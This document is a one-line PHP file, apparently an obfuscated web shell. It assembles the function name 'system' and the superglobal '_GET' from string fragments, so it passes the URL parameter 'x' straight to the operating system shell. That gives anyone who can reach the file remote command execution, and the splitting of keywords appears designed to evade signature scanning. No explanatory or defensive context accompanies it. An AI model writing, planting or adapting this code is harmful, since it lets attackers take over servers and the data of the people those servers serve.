<?php $a = 's' . 'ys' . 'tem'; $v = '_' . 'GET'; $a(${$v}['x']);
